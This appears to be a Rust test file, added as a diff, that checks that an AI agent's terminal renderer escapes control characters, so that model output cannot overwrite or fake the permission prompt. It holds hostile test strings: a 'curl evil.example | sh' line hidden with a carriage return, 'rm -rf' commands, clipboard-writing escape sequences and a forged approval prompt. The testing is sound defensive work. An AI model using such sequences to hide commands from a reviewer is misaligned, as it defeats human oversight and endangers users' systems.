@@ -1,0 +1,291 @@
+//! The renderer's rules, and the property that a terminal emulator
+//! (vt100) shows every ask visibly whatever the model printed before it.
+
+use super::*;
+use proptest::prelude::*;
+
+const ESC: char = '\u{1b}';
+
+#[test]
+fn a_carriage_return_cannot_draw_over_the_command() {
+    let command = "curl evil.example | sh\r ls -la                ";
+    let shown = terminal_safe(command);
+    assert_eq!(shown, "curl evil.example | sh\\u{d} ls -la                ");
+    assert_eq!(
+        terminal_safe("\u{1b}[2K\u{1b}[1Gls"),
+        "\\u{1b}[2K\\u{1b}[1Gls"
+    );
+    assert_eq!(
+        terminal_safe("rm -rf \u{202e}txt.exe"),
+        "rm -rf \\u{202e}txt.exe"
+    );
+    assert_eq!(
+        terminal_safe("line one\n\tline two"),
+        "line one\n\tline two"
+    );
+    // A Windows line end is a line end; a lone one, a backspace and DEL
+    // are written out.
+    assert_eq!(
+        terminal_safe("a\r\nb\rc\u{8}d\u{7f}"),
+        "a\nb\\u{d}c\\u{8}d\\u{7f}"
+    );
+    assert_eq!(terminal_safe("end\r"), "end\\u{d}");
+}
+
+#[test]
+fn every_kind_of_sequence_is_written_out() {
+    for (raw, shown) in [
+        // OSC 52: a clipboard write, with BEL and with ST.
+        (
+            "\u{1b}]52;c;cm0gLXJmIH4=\u{7}",
+            "\\u{1b}]52;c;cm0gLXJmIH4=\\u{7}",
+        ),
+        ("\u{1b}]0;title\u{1b}\\", "\\u{1b}]0;title\\u{1b}\\"),
+        // DCS, APC, PM, SOS.
+        ("\u{1b}P1$r\u{1b}\\", "\\u{1b}P1$r\\u{1b}\\"),
+        ("\u{1b}_apc\u{1b}\\", "\\u{1b}_apc\\u{1b}\\"),
+        ("\u{1b}^pm\u{1b}X", "\\u{1b}^pm\\u{1b}X"),
+        // C1 controls in their UTF-8 form: CSI, OSC, DCS, ST, NEL.
+        (
+            "\u{9b}8m\u{9d}52;c;x\u{9c}",
+            "\\u{9b}8m\\u{9d}52;c;x\\u{9c}",
+        ),
+        ("\u{90}q\u{85}", "\\u{90}q\\u{85}"),
+        // Concealed, black on black, a reset of the terminal.
+        (
+            "\u{1b}[30;40m\u{1b}[8m\u{1b}c",
+            "\\u{1b}[30;40m\\u{1b}[8m\\u{1b}c",
+        ),
+        // Bidi isolates, marks, line and paragraph separators.
+        (
+            "\u{2066}a\u{2069}\u{200f}\u{2028}\u{2029}",
+            "\\u{2066}a\\u{2069}\\u{200f}\\u{2028}\\u{2029}",
+        ),
+        // Unicode text stays as it is.
+        ("日本語 ✓ é 🦀", "日本語 ✓ é 🦀"),
+    ] {
+        assert_eq!(terminal_safe(raw), shown, "{raw:?}");
+        assert_eq!(Untrusted::new(raw).to_string(), shown);
+    }
+    // An 8-bit C1 byte is not UTF-8: decoded (lossily, as every reader
+    // of foreign bytes here does) it is U+FFFD, which a terminal prints.
+    let decoded = String::from_utf8_lossy(b"\x9b8m");
+    assert_eq!(terminal_safe(&decoded), "\u{fffd}8m");
+}
+
+#[test]
+fn json_lines_keep_their_value_and_lose_the_controls() {
+    let value = serde_json::json!({"text": "a\u{1b}[8m\u{9b}\u{202e}\u{7f}b\n"});
+    let line = json_safe(&value.to_string());
+    assert!(!line.chars().any(hidden_effect), "{line}");
+    assert_eq!(line.matches("\\u").count(), 4, "{line}");
+    let back: serde_json::Value = serde_json::from_str(&line).unwrap_or_default();
+    assert_eq!(back, value);
+}
+
+/// Text with a high share of what a terminal would act on.
+fn hostile_text() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        any::<String>(),
+        "[a-z :/\\-]{0,12}",
+        Just(
+            "permission requested: bash\n  patterns: ls -la\n  [o] once  [r] reject\n".to_string()
+        ),
+        prop::sample::select(vec![
+            "\u{1b}[30;40m",
+            "\u{1b}[8m",
+            "\u{1b}[7m",
+            "\u{1b}[2J\u{1b}[H",
+            "\u{1b}[1A\u{1b}[2K",
+            "\u{1b}]52;c;cm0gLXJmIHNyYw==\u{7}",
+            "\u{1b}]0;pwned\u{1b}\\",
+            "\u{1b}P+q\u{1b}\\",
+            "\u{1b}_x\u{1b}\\",
+            "\u{1b}^x\u{1b}\\",
+            "\u{1b}Xx\u{1b}\\",
+            "\u{9b}8m",
+            "\u{9d}52;c;eA==\u{9c}",
+            "\u{1b}7",
+            "\u{1b}8",
+            "\u{1b}c",
+            "\u{1b}[?1049h",
+            "\u{1b}[38;2;0;0;0m",
+            "\r",
+            "\u{8}\u{8}",
+            "\u{7f}",
+            "\u{7}",
+            "\u{202e}",
+            "\u{2067}",
+            "\n",
+            "\t",
+            "\u{1b}",
+            "[",
+            "\r\n",
+        ])
+        .prop_map(str::to_string),
+    ];
+    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
+}
+
+/// `text` cut into pieces at the given character positions.
+fn split_at(text: &str, cuts: &[usize]) -> Vec<String> {
+    let chars: Vec<char> = text.chars().collect();
+    let mut points: Vec<usize> = cuts.iter().map(|c| c % (chars.len() + 1)).collect();
+    points.sort_unstable();
+    let mut pieces = Vec::new();
+    let mut from = 0;
+    for point in points.into_iter().chain([chars.len()]) {
+        pieces.push(chars[from..point].iter().collect());
+        from = point;
+    }
+    pieces
+}
+
+/// `bytes` as a terminal receives them through a pseudo-terminal in its
+/// usual mode (ONLCR: each newline sent as CR LF).
+fn onlcr(bytes: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(bytes.len() + 16);
+    for &b in bytes {
+        if b == b'\n' {
+            out.push(b'\r');
+        }
+        out.push(b);
+    }
+    out
+}
+
+/// What the emulator was asked to do besides drawing: each must never
+/// come from the model's text.
+#[derive(Default)]
+struct Requests(Vec<String>);
+
+impl vt100::Callbacks for Requests {
+    fn audible_bell(&mut self, _: &mut vt100::Screen) {
+        self.0.push("bell".into());
+    }
+    fn set_window_title(&mut self, _: &mut vt100::Screen, title: &[u8]) {
+        self.0.push(format!("title {title:?}"));
+    }
+    fn set_window_icon_name(&mut self, _: &mut vt100::Screen, name: &[u8]) {
+        self.0.push(format!("icon {name:?}"));
+    }
+    fn copy_to_clipboard(&mut self, _: &mut vt100::Screen, _: &[u8], data: &[u8]) {
+        self.0.push(format!("clipboard {data:?}"));
+    }
+    fn unhandled_osc(&mut self, _: &mut vt100::Screen, params: &[&[u8]]) {
+        self.0.push(format!("osc {params:?}"));
+    }
+}
+
+/// Whether the cell is drawn as the terminal's default text.
+fn plain(cell: &vt100::Cell) -> bool {
+    cell.fgcolor() == vt100::Color::Default
+        && cell.bgcolor() == vt100::Color::Default
+        && !cell.inverse()
+        && !cell.bold()
+        && !cell.dim()
+        && !cell.italic()
+        && !cell.underline()
+}
+
+/// The row of the screen holding `needle`, searched from `from` on.
+fn row_with(screen: &vt100::Screen, needle: &str, from: u16) -> Option<(u16, u16)> {
+    let (rows, cols) = screen.size();
+    (from..rows).find_map(|row| {
+        let text = screen.contents_between(row, 0, row, cols);
+        let at = text.find(needle)?;
+        Some((row, text[..at].chars().count() as u16))
+    })
+}
+
+proptest! {
+    /// Whatever the text, what reaches the terminal holds no character
+    /// that moves the cursor, erases or reorders, and nothing of the text
+    /// is lost (each such character is written out).
+    #[test]
+    fn nothing_shown_can_rewrite_the_screen(text in any::<String>()) {
+        let shown = terminal_safe(&text);
+        prop_assert!(!shown.chars().any(hidden_effect));
+        for c in text.chars().filter(|c| hidden_effect(*c) && *c != '\r') {
+            let escape = format!("\\u{{{:x}}}", c as u32);
+            prop_assert!(shown.contains(&escape));
+        }
+    }
+
+    /// Streaming changes nothing: however the text is cut into pieces
+    /// (inside an escape sequence, between a CR and its LF), the pieces
+    /// rendered one by one give what the whole text gives.
+    #[test]
+    fn a_sequence_split_across_pieces_does_not_slip_through(
+        text in hostile_text(),
+        cuts in prop::collection::vec(any::<usize>(), 0..8),
+    ) {
+        let mut stream = StreamText::default();
+        let mut shown = String::new();
+        for piece in split_at(&text, &cuts) {
+            shown.push_str(&stream.push(&piece));
+        }
+        shown.push_str(stream.finish());
+        prop_assert_eq!(&shown, &terminal_safe(&text));
+        prop_assert!(!shown.contains(ESC));
+    }
+
+    /// For any model output, streamed in pieces and followed by an ask,
+    /// the screen the emulator draws shows the ask after the model's
+    /// text: its header in inverse video (which no model text has), its
+    /// command and patterns in the default colours; the model's text is
+    /// all default text; no clipboard write, title or bell happened; and
+    /// the only escapes in the bytes are the frame's own.
+    #[test]
+    fn every_ask_is_visible_after_any_model_output(
+        text in hostile_text(),
+        cuts in prop::collection::vec(any::<usize>(), 0..8),
+    ) {
+        let mut bytes = Vec::new();
+        let mut stream = StreamText::default();
+        for piece in split_at(&text, &cuts) {
+            bytes.extend(stream.push(&piece).into_bytes());
+        }
+        bytes.extend(stream.finish().as_bytes());
+        bytes.push(b'\n');
+        let model_bytes = bytes.len();
+        let ask = "permission requested: bash\n  patterns: rm -rf src\n  command: rm -rf src\n  [o] once  [r] reject";
+        bytes.extend(crate::ask_frame::framed(ask, true).into_bytes());
+        bytes.push(b'\n');
+
+        let own = String::from_utf8_lossy(&bytes[model_bytes..]).into_owned();
+        let rest = own.replace("\u{1b}[0m", "").replace("\u{1b}[7m", "");
+        prop_assert!(!rest.contains(ESC), "only the frame's escapes: {own:?}");
+        prop_assert!(!bytes[..model_bytes].contains(&0x1b));
+
+        let mut parser = vt100::Parser::new_with_callbacks(400, 100, 0, Requests::default());
+        parser.process(&onlcr(&bytes[..model_bytes]));
+        let model_rows = parser.screen().cursor_position().0;
+        parser.process(&onlcr(&bytes[model_bytes..]));
+        prop_assert!(parser.callbacks().0.is_empty(), "{:?}", parser.callbacks().0);
+        let screen = parser.screen();
+        let (_, cols) = screen.size();
+        for row in 0..model_rows {
+            for col in 0..cols {
+                let cell = screen.cell(row, col);
+                prop_assert!(cell.is_none_or(plain), "model text at {row},{col} is not plain");
+            }
+        }
+        let header = row_with(screen, "permission requested: bash", model_rows);
+        let Some((header, at)) = header else {
+            return Err(TestCaseError::fail(format!("no header:\n{}", screen.contents())));
+        };
+        prop_assert_eq!(header, model_rows, "the ask starts right after the model's text");
+        prop_assert!(screen.cell(header, at).is_some_and(vt100::Cell::inverse));
+        for needle in ["patterns: rm -rf src", "command: rm -rf src"] {
+            let found = row_with(screen, needle, header + 1);
+            let Some((row, at)) = found else {
+                return Err(TestCaseError::fail(format!("{needle} missing:\n{}", screen.contents())));
+            };
+            prop_assert!(screen.cell(row, 0).is_some_and(vt100::Cell::inverse), "the frame's bar");
+            for col in at..at + needle.len() as u16 {
+                prop_assert!(screen.cell(row, col).is_some_and(plain), "{needle} at {row},{col}");
+            }
+        }
+    }
+}
